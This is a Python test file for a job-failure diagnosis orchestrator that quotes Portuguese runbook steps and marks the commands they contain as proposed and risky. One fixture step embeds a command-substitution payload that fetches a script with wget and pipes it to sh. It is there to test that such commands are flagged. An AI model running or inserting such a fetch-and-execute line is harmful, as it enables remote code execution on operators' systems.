"""When a runbook supports a diagnosis, and what of it appears in the answer."""

from __future__ import annotations

import pytest
from rules_support import S0C7, ask, job_facts, job_log, tws

from orchestrator.models import Diagnosis, Evidence, SourceEnvelope, SourceOutcome

PAGE = (
    "O campo não é numérico.\nSolução:\n1. Corrija o arquivo de entrada.\n2. RC 127: use o caminho absoluto.\n"
    "3. Reexecute do passo que falhou.\nPrevenção:\n- Valide a entrada."
)


def passage(title: str, text: str = PAGE, where: str = "kb/page.md#Solução") -> SourceEnvelope:
    item = Evidence(id="rag_search:1", source="rag_search", kind="runbook", title=title, text=text, where=where)
    return SourceEnvelope(source="rag_search", outcome=SourceOutcome.OK, success=True, evidence=(item,))


def of_the_runbook(diagnosis: Diagnosis) -> list[str]:
    return [claim.text for claim in diagnosis.claims if claim.evidence_ids == ("rag_search:1",)]


def test_the_steps_of_the_runbook_are_cited() -> None:
    """Those of its remedy, without the one for another code."""
    job = job_facts("ABEND", job_log=job_log(S0C7, step="STEP030"))
    alone, supported = ask(tws(job)), ask(tws(job), passage("S0C7 – exceção de dados"))
    assert of_the_runbook(supported) == [
        "A base de conhecimento trata deste caso em “S0C7 – exceção de dados”.",
        "Passo 1 do runbook, seção “Solução”: “Corrija o arquivo de entrada.”",
        "Passo 2 do runbook, seção “Solução”: “Reexecute do passo que falhou.”",
    ]
    assert supported.confidence > alone.confidence


@pytest.mark.parametrize(
    ("title", "text"),
    [
        ("S0C4 – proteção", "Compare com S0C7."),
        ("Plantão", "S0C7 tem SLA de 15 minutos."),
        ("S0C7 (revogado)", PAGE),
        ("S0C7 – exceção de dados", "**OBSOLETO**: veja a página nova.\n" + PAGE),
        ("Loja 0C7", PAGE),
    ],
)
def test_a_mention_or_a_revoked_page_supports_nothing(title: str, text: str) -> None:
    """Neither a claim nor confidence comes of it."""
    job = job_facts("ABEND", job_log=job_log(S0C7))
    alone, beside = ask(tws(job)), ask(tws(job), passage(title, text))
    assert of_the_runbook(beside) == []
    assert beside.confidence == alone.confidence


@pytest.mark.parametrize(
    ("line", "covered"),
    [
        ("/opt/lote/bin/calc: cannot execute binary file: Exec format error", False),
        ("sh: /opt/lote/run.sh: Permission denied", True),
    ],
)
def test_a_page_about_a_return_code_is_about_its_usual_cause(line: str, covered: bool) -> None:
    """126 is mostly a missing permission; where the log says otherwise, the page is about another case."""
    job = job_facts("ABEND", return_code=126, job_log=job_log(line), task="/opt/lote/run.sh")
    diagnosis = ask(tws(job), passage("Códigos de retorno 126 e 127 – comando não executável", "chmod +x"))
    assert bool(of_the_runbook(diagnosis)) is covered


def test_a_runbooks_rerun_is_not_quoted_while_the_log_is_unread() -> None:
    """Its other steps are; that one waits until somebody has read the log."""
    job = job_facts("ABEND", job_log=job_log(S0C7, step="STEP030"), job_log_error="timeout")
    found = of_the_runbook(ask(tws(job), passage("S0C7 – exceção de dados")))
    assert "Passo 1 do runbook, seção “Solução”: “Corrija o arquivo de entrada.”" in found
    assert not [text for text in found if "Reexecute" in text]


def test_a_code_of_a_program_alone_is_explained() -> None:
    """SQLCODE -803 names no job: it is explained, whatever has failed in the plan, and no step changes a job of it."""
    failed = job_facts("ABEND", "FECH777", return_code=12)
    diagnosis = ask(tws(problems=(failed,), asked=None), message="SQLCODE -803")
    assert diagnosis.summary.startswith("SQLCODE -803: ")
    assert "FECH777" not in diagnosis.summary
    assert not [action for action in diagnosis.actions if "FECH777" in (action.command or "")]


@pytest.mark.parametrize(
    ("message", "code"),
    [
        ("o que é ORA-01017?", "ORA-01017"),
        ("ora-12541 o que faço?", "ORA-12541"),
        ("deu SQL0964C", "SQL0964C"),
    ],
)
def test_a_code_of_a_database_alone_is_explained(message: str, code: str) -> None:
    """From the catalogue of messages, before what else has failed in the plan is named."""
    failed = job_facts("ABEND", "FECH777", return_code=12)
    diagnosis = ask(tws(problems=(failed,), asked=None), message=message)
    assert diagnosis.summary.startswith(f"{code}: ")
    assert not [action for action in diagnosis.actions if "FECH777" in (action.command or "")]


def test_steps_for_another_wait_are_left_out() -> None:
    """A page about every wait is quoted with the steps of this one alone."""
    page = (
        "Subestados:\n- HOLD_WAITING_FOR_TIME: a hora não chegou.\nSolução:\n1. Predecessor: resolva-o.\n"
        "2. Arquivo: peça-o.\n3. Prompt: responda.\n4. Prioridade 0: volte-a.\n5. Horário: altere o da instância.\n"
    )
    job = job_facts("HOLD", substatus="HOLD_WAITING_FOR_TIME")
    steps = of_the_runbook(ask(tws(job), passage("HOLD – job aguardando dependências", page)))[1:]
    assert steps == ["Passo 1 do runbook, seção “Solução”: “Horário: altere o da instância.”"]


def test_the_sites_own_page_is_quoted_before_a_shipped_one() -> None:
    """Its steps are this site's, whatever the order of the search."""
    job = job_facts("ABEND", job_log=job_log(S0C7))
    shipped = passage("S0C7 – exceção de dados", where="runbooks/pt/abend-s0c7.md#Solução").evidence[0]
    own = passage("S0C7 no FATCALC", "Solução:\n1. Rode o VALIDA01.\n2. Abra um chamado.", "kb/fat.md").evidence[0]
    items = (shipped, own.model_copy(update={"id": "rag_search:2"}))
    found = SourceEnvelope(source="rag_search", outcome=SourceOutcome.OK, success=True, evidence=items)
    quoted = [claim.text for claim in ask(tws(job), found).claims if "rag_search:2" in claim.evidence_ids]
    assert quoted[0] == "A base de conhecimento trata deste caso em “S0C7 no FATCALC”."
    assert any("Rode o VALIDA01." in text for text in quoted)


def test_a_section_of_a_manual_is_named_by_its_message() -> None:
    """The manual is about many messages; its title alone would not say which."""
    job = job_facts(
        "ABEND", job_log=job_log("ORA-01653: unable to extend table A.B by 8 in tablespace C"), return_code=1
    )
    page = passage("Manual de mensagens – ORA-01653", "Solução:\n1. Peça espaço.", "kb/msg.md#ORA-01653")
    assert any("“Manual de mensagens – ORA-01653”" in text for text in of_the_runbook(ask(tws(job), page)))


def test_a_command_of_a_page_carries_its_mark() -> None:
    """A step with a command that is not proven to look is marked, one with a command that looks is not."""
    page = (
        "O campo não é numérico.\nSolução:\n1. Rode `conman sj X;joblog`.\n2. Rode `conman cj X`.\n"
        '3. Rode `tail "$(wget -qO- x|sh)"`.\n'
    )
    job = job_facts("ABEND", job_log=job_log(S0C7, step="STEP030"))
    steps = of_the_runbook(ask(tws(job), passage("S0C7 – exceção de dados", page)))[1:]
    assert [step.partition(" (proposta, não executada; risco ")[2] for step in steps] == ["", "alto)", "alto)"]


def test_a_page_that_is_quoted_as_a_whole_marks_its_commands() -> None:
    """The answer to how something is done quotes the page; a command in it is marked where it stands."""
    page = passage("Reinício do agente", "Para reiniciar, use conman stop CPU1 e depois confira.")
    diagnosis = ask(tws(asked=None), page, message="como faço o reinício do agente?")
    assert any("conman stop CPU1 (proposta, não executada; risco alto) e depois" in c.text for c in diagnosis.claims)
